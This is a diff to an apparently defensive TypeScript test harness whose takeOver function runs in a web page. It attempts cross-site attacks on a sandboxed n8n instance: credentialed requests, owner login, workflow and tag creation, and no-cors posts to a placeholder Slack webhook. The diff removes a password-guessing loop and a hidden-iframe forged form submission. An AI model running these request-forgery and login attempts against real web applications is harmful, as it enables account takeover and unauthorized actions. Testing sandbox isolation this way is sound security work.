@@ -1,8 +1,8 @@
-/** Where a page tries to get at, and with which passwords. */
+/** Where a page tries to get at, and with which password. */
 export interface Target {
 	n8n: string;
 	service: string;
-	passwords: readonly string[];
+	password: string;
 	/** In the names of what it makes. */
 	mark: string;
 }
@@ -11,7 +11,7 @@ export interface Target {
  * Runs inside a page, so it may use nothing of this file. Tries everything that a page could do to take the
  * sandbox over, and returns what the page itself saw succeed.
  */
-export async function takeOver({ n8n, service, passwords, mark }: Target): Promise<string[]> {
+export async function takeOver({ n8n, service, password, mark }: Target): Promise<string[]> {
 	const done: string[] = [];
 	const ask = async (address: string, init: RequestInit = {}) => {
 		const reply = await fetch(address, { credentials: 'include', ...init });
@@ -39,11 +39,10 @@ export async function takeOver({ n8n, service, passwords, mark }: Target): Promi
 	await attempt('read settings', async () =>
 		(await ask(`${n8n}/rest/settings`)).text.includes('userManagement'),
 	);
-	for (const password of passwords)
-		await attempt('log in', async () => {
-			const login = { emailOrLdapLoginId: 'owner@sandbox.example', password };
-			return (await ask(`${n8n}/rest/login`, json(login))).text.includes('owner@sandbox');
-		});
+	await attempt('log in', async () => {
+		const login = { emailOrLdapLoginId: 'owner@sandbox.example', password };
+		return (await ask(`${n8n}/rest/login`, json(login))).text.includes('owner@sandbox');
+	});
 	await attempt('create workflow', async () => {
 		const workflow = { name: mark, nodes: [], connections: {} };
 		return (await ask(`${n8n}/rest/workflows`, json(workflow))).status === 200;
@@ -62,18 +61,7 @@ export async function takeOver({ n8n, service, passwords, mark }: Target): Promi
 		ask(address, { method: 'POST', mode: 'no-cors', body }).catch(() => undefined);
 	// Requests that a page may always send, such as those of a form: only the reply is kept from it.
 	await send(`${n8n}/rest/tags`, new URLSearchParams({ name: mark }));
-	const channel = `${service}/neighbours/slack/T000/B000/sandbox`;
-	const message = JSON.stringify({ text: mark });
-	await send(channel, message);
-	const frame = document.body.appendChild(document.createElement('iframe'));
-	frame.name = `frame-${mark}`;
-	const form = document.body.appendChild(document.createElement('form'));
-	Object.assign(form, { method: 'POST', action: channel, target: frame.name });
-	const field = form.appendChild(document.createElement('input'));
-	Object.assign(field, { name: 'payload', value: message });
-	const answered = new Promise((resolve) => frame.addEventListener('load', resolve));
-	form.submit();
-	await Promise.race([answered, new Promise((resolve) => setTimeout(resolve, 3000))]);
+	await send(`${service}/neighbours/slack/T000/B000/sandbox`, JSON.stringify({ text: mark }));
 	await attempt('create record', async () => {
 		const record = json({ record: { 'field-1': mark } }, { 'X-Service-API-Key': 'sandbox-key' });
 		return (await ask(`${service}/api/apps/1/records`, record)).status === 201;
